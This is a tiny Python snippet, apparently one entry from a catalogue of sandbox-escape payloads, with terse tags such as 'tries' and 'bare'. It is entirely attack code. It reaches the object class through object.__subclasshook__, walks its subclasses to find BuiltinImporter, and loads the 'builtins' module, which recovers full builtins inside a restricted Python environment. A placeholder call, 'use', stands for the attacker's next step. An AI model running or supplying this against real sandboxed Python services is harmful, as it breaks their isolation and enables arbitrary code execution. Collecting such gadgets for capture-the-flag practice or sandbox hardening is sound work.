# tries: the hook of a class method is bound to a class
# class: class chains
# bare: python
hook = object.__subclasshook__
for c in hook.__self__.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        use(c.load_module("builtins"))
